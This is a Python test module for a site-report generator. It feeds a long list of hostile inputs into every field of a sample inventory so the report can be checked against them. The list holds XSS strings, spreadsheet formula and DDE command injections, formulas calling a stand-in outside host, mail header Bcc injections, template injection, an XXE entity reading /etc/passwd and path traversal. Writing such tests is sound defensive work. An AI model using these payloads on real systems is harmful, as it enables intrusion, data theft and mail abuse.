"""Text that a workstation or an inventory could hold to break a page, a workbook, a mail or a data file."""

from __future__ import annotations

from collector.core.evidence import exactly
from collector.core.model import (
    Evidence,
    HostStateKind,
    Language,
    Reach,
    ReachKind,
    SiteState,
    Verdict,
)
from collector.core.observation.observation import Reader
from tests.reports import sample_site as sample
from tests.reports.documents import SiteDocuments, site_documents
from tests.reports.site.desk_sample import HELPDESKS

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><script>alert(1)</script>",
    "</pre></main><iframe src='http://198.51.100.7/'></iframe>",
    "<!-- -->&lt;b&gt;&amp;",
    "{{ 7*7 }}{% raw %}",
    "{host} {0} {item.__class__}",
    "javascript:alert(1)",
    '=HYPERLINK("http://198.51.100.7","x")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "#N/A",
    "#REF!",
    "1e308",
    "TRUE",
    "2026-03-03",
    "_x0041_ and _x000D_",
    "http://198.51.100.7/",
    "\x00\x01\x08\x0b\x1b[31mred\x1b[0m\x7f\x9f",
    "\ud800 alone",
    "\ufffe\uffff",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "שלום عليكم",
    "👩‍⚕️🇧🇪" * 20,
    "é" * 50 + "ﬁ№",
    "line\nline\r\nline\u2028line\u2029line",
    "a" * 40_000,
    "x\n" * 400,
    "' OR '1'='1",
    "%00%0a&lt;",
    "&L&8&P&N & Co",
    # Mail headers, and what ends a part of a mail.
    "x\r\nBcc: victim@example.org",
    "x\nBcc: victim@example.org",
    "x\rBcc: victim@example.org",
    "x\n\n<h1>new body</h1>",
    "x\r\n.\r\nMAIL FROM:<a@example.org>",
    "x%0d%0aBcc: victim@example.org",
    "x\u2028Bcc: victim@example.org",
    "x\u0085Bcc: victim@example.org",
    "x\x0bBcc: victim@example.org\x0c",
    "=?utf-8?q?=0d=0aBcc:_victim@example.org?=",
    "=?utf-8?b?DQpCY2M6IHg=?=",
    "a@example.org, b@example.org",
    '"a" <a@example.org>, victim@example.org',
    "a@example.org>\r\nRCPT TO:<victim@example.org",
    "--=_eidfleet_0_000000000000000000000000--",
    "\n--=_eidfleet_1_x\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "Content-Type: text/html; charset=utf-7",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "From here to there",
    ".\r\nQUIT",
    # HTML, also what mail programs make of it.
    "<svg/onload=alert(1)>",
    "<img src='http://198.51.100.7/pixel.gif' width=1 height=1>",
    "<link rel=stylesheet href=//198.51.100.7/x.css>",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'>",
    "<base href='http://198.51.100.7/'>",
    "<style>*{display:none}</style>",
    "<style>@import url(http://198.51.100.7/x.css);</style>",
    "</style></head><body>",
    "</title><script>alert(1)</script>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![endif]-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table><tr><td>x</td></tr></table>",
    "</td></tr></table><p>out",
    '<a href="javascript:alert(1)">x</a>',
    "data:text/html,<script>alert(1)</script>",
    "tel:+32900",
    "mailto:victim@example.org?bcc=other@example.org",
    "' style='position:fixed;top:0",
    '" style="background:url(http://198.51.100.7/)',
    "` onmouseover=alert(1)",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}",
    "{ $n }",
    "{ mail-subject }",
    "%s%n%d",
    # CSV, spreadsheets and JSON.
    '";=1+1;"',
    '"";""',
    "a;b;c",
    'x";\r\n=1+1',
    "sep=,",
    '=IMPORTXML("http://198.51.100.7/","//a")',
    '=WEBSERVICE("http://198.51.100.7/")',
    '=DDE("cmd";"/c calc";"x")',
    "  =1+1",
    "\u00a0=1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "'=1+1",
    '{"a": 1}',
    '\\"},{"state":"works',
    "\\u0000\\ud800",
    "</script>",
    "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&y;",
    "\U0001f600\U000e0041\U000e007f",
    "\ufeffbom",
    "a\u0301\u0327" * 40,
    "\u200b\u200c\u200d\u2060zero",
    "\ufdd0\ufdef",
    "NaN",
    "null",
    "-0",
    "00012",
    "../../etc/passwd",
    "C:\\Users\\jan.peeters\\x",
    "CON",
)


def hostile_state(payload: str) -> SiteState:
    """The payload in every place that a workstation or an inventory fills."""
    name = payload[:200] + " pc"
    finding = sample.finding(name, sample.ADDON, Verdict.FAIL, item=f"{payload[:200]}/{payload[:200]}")
    evidence = (
        Evidence("profile.addon_active", payload, exactly(payload)),
        Evidence("unheard.of", payload, exactly(True)),
    )
    finding = sample.finding(
        name, sample.ADDON, Verdict.FAIL, item=finding.item, evidence=evidence, since=sample.BEFORE
    )
    seen = sample.observation(
        readers=(Reader(vendor_id="072f", product_id="b100", product=payload[:120]),),
        firefox_profiles=(),
    )
    host = sample.host_state(name, HostStateKind.NEEDS_WORK, (finding,), seen=seen)
    lost = sample.host_state(
        name + " lost",
        HostStateKind.NOT_REACHED,
        (),
        reach=Reach(ReachKind.PROBE_FAILED, payload),
        last=None,
    )
    site = sample.site(name=payload[:300] + " site")
    waiver = sample.waiver()
    waived = type(waiver)(waiver.check, waiver.site, host.host.name, payload, payload, waiver.until)
    return sample.site_state(site=site, hosts=(host, lost), changes=(), waivers=(waived,))


def hostile_report(payload: str, language: Language = Language.NL) -> SiteDocuments:
    return site_documents(
        hostile_state(payload), sample.catalogue(HELPDESKS), language, sample.NOW, sample.label
    )
